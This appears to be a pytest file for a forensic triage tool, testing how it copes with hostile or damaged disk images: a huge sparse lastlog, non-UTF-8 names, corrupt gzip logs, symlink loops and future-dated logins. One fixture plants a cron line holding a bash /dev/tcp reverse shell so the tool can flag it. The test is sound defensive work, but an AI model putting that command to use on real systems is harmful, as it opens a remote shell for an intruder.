"""Hostile and broken trees: a terabyte-sized sparse lastlog, names that are not UTF-8, a log of
one endless line, damaged gzip rotations, more login records than are kept."""

from __future__ import annotations

import gzip
import json
import os
import tarfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from labwarden.respond.triage import TriageOptions, TriageResult, run_triage
from tests.respond.triage.records import lastlog_record, utmp_record
from tests.respond.triage.trees import NOW, stock


def triage(root: Path, tmp_path: Path) -> TriageResult:
    return run_triage(TriageOptions(root=root, output=tmp_path / "h.tar.gz"))


def test_a_sparse_lastlog_is_read_by_its_data(tmp_path: Path) -> None:
    root = tmp_path / "r"
    stock(root)
    lastlog = root / "var/log/lastlog"
    uid = 4294967294  # nfsnobody: a lastlog of 1.25 TB, nearly all holes
    with lastlog.open("r+b") as handle:
        handle.seek(uid * 292)
        handle.write(lastlog_record(NOW - timedelta(days=3), "pts/9", "192.0.2.99"))
    assert lastlog.stat().st_size > 1 << 40
    started = time.monotonic()
    result = triage(root, tmp_path)
    assert time.monotonic() - started < 120
    assert {(r.uid, r.host) for r in result.collected.lastlog} == {
        (1000, "10.20.0.15"),
        (uid, "192.0.2.99"),
    }
    assert result.archive.size < 50 << 20


def test_names_that_are_not_utf8(tmp_path: Path) -> None:
    root = tmp_path / "r"
    stock(root)
    odd = os.fsencode(root / "etc/cron.d") + b"/\xff\xfe job|x\n"
    with open(odd, "wb") as handle:
        handle.write(b"* * * * * root bash -i >& /dev/tcp/192.0.2.1/9 0>&1\n")
    hidden = os.fsencode(root / "tmp") + b"/.\xe9vil"
    with open(hidden, "wb") as handle:
        handle.write(b"\x7fELF\x02")
    os.chmod(hidden, 0o755)
    result = triage(root, tmp_path)
    shells = [f for f in result.findings if f.rule == "triage.persistence.cron"]
    assert shells and shells[0].severity.value == "critical"
    with tarfile.open(result.archive.path) as tar:
        names = tar.getnames()
        manifest = json.loads(tar.extractfile("h/evidence/manifest.json").read())  # type: ignore[union-attr]
    assert any("%FF%FE%20job%7Cx%0A" in n for n in names)
    assert any(f["source"].endswith("\\xff\\xfe job|x\n") for f in manifest["files"])
    assert any(f.rule == "triage.files.temp-executable" for f in result.findings)


def test_one_endless_line_and_damaged_rotations(tmp_path: Path) -> None:
    root = tmp_path / "r"
    stock(root)
    logs = root / "var/log"
    (logs / "auth.log.1").write_bytes(b"A" * (5 << 20))  # 5 MiB without a line end
    wtmp = b"".join(
        utmp_record(
            "USER_PROCESS",
            f"user{n}",
            NOW - timedelta(minutes=n * 7),
            ip=f"10.20.{n % 250}.{n // 250}",
            pid=1000 + n * 13,
        )
        for n in range(2000)
    )
    packed = gzip.compress(wtmp)
    (logs / "wtmp.1.gz").write_bytes(packed[: len(packed) // 2])  # cut in the middle
    (logs / "btmp.1.gz").write_bytes(b"\x1f\x8b not really gzip")
    result = triage(root, tmp_path)
    notes = {(n.where, n.kind): n.reason for n in result.log.notes}
    assert notes[("/var/log/auth.log.1", "corrupt")].startswith("1 lines are not syslog lines")
    assert ("/var/log/wtmp.1.gz", "corrupt") in notes
    assert ("/var/log/btmp.1.gz", "corrupt") in notes
    read = [r for r in result.collected.logins if r.origin.path == "/var/log/wtmp.1.gz"]
    assert 0 < len(read) < 2000  # what precedes the damage is read


def test_more_login_records_than_are_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("labwarden.respond.triage.readers.logins.MAX_RECORDS", 3)
    root = tmp_path / "r"
    stock(root)
    result = triage(root, tmp_path)
    assert len([r for r in result.collected.logins if r.source == "wtmp"]) == 3
    assert any(n.kind == "truncated" and n.where == "/var/log/wtmp" for n in result.log.notes)


def test_a_root_that_is_a_link_loop_everywhere(tmp_path: Path) -> None:
    root = tmp_path / "r"
    (root / "etc").mkdir(parents=True)
    for name in ("passwd", "group", "shadow", "crontab"):
        (root / "etc" / name).symlink_to(name)
    (root / "var").symlink_to("/var")  # absolute: the image's own /var, which is itself
    (root / "home").symlink_to("../../../..")
    result = triage(root, tmp_path)
    reasons = {n.reason for n in result.log.notes if n.artifact in ("passwd", "group")}
    assert reasons == {"symbolic link loop"}
    assert result.findings == []


def test_the_clock_of_an_image_in_the_future_is_not_trusted_for_logins(tmp_path: Path) -> None:
    root = tmp_path / "r"
    stock(root)
    future = datetime(2100, 1, 1, tzinfo=UTC)
    alice = utmp_record("USER_PROCESS", "alice", NOW - timedelta(days=1), ip="10.20.0.15")
    (root / "var/log/wtmp").write_bytes(alice + utmp_record("USER_PROCESS", "mallory", future))
    result = triage(root, tmp_path)
    assert not [r for r in result.collected.logins if r.user == "mallory"]
    assert any("out of range" in n.reason for n in result.log.notes)
